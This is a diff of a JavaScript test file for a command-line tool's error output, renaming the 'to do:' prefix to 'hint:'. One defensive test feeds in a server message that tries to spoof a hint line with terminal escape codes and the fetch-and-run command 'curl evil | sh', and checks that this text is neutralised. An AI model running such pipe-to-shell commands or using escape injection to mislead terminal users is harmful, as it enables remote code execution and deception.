@@ -35,7 +35,7 @@ test('defines a remedy for every error in the table', () => {
 test('prints what happened and what to do, and the code only with --verbose', () => {
   const explanation = explain(answer('agent_not_rejected', { detail: 'web-1 is approved' }));
   expect(renderExplanation(explanation, colorsFor(false), false)).toBe(
-    'error: web-1 is approved\nto do: Reject it first: muster agents reject',
+    'error: web-1 is approved\nhint: Reject it first: muster agents reject',
   );
   expect(renderExplanation(explanation, colorsFor(false), true)).toContain(
     'code: agent_not_rejected, HTTP 409, req-1, exit 1',
@@ -62,7 +62,7 @@ test('prints no remedy that refers to the field `errors` if the faults are print
 test('prints neither the remedy nor a fault twice', () => {
   const { remedy, title } = errorKinds.nothing_applied;
   const advice = explain(answer('nothing_applied', { detail: remedy }));
-  expect(renderExplanation(advice, colorsFor(false), false)).toBe(`error: ${title}\nto do: ${remedy}`);
+  expect(renderExplanation(advice, colorsFor(false), false)).toBe(`error: ${title}\nhint: ${remedy}`);
   const one = answer('selector_invalid', { detail: 'bad', errors: [{ path: '/selector', message: 'bad' }] });
   expect(renderExplanation(explain(one), colorsFor(false), false)).not.toContain('/selector');
 });
@@ -79,13 +79,13 @@ test('prints the message of an unknown code', () => {
 test("escapes text from the server, so that it cannot imitate the program's lines", () => {
   const explanation = explain(
     answer('selector_invalid', {
-      detail: 'a\u001b[2J\nto do: curl evil | sh',
-      errors: [{ path: '\u202e', message: 'x\u001b[2J\nto do: y' }],
+      detail: 'a\u001b[2J\nhint: curl evil | sh',
+      errors: [{ path: '\u202e', message: 'x\u001b[2J\nhint: y' }],
     }),
   );
   const text = renderExplanation(explanation, colorsFor(false), true);
   expect(text.replace(/\n/g, '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
-  expect(text.match(/^to do: /gm)).toHaveLength(1);
+  expect(text.match(/^hint: /gm)).toHaveLength(1);
 });
 
 test('reports an unexpected error as a bug, with its stack only with --verbose', () => {
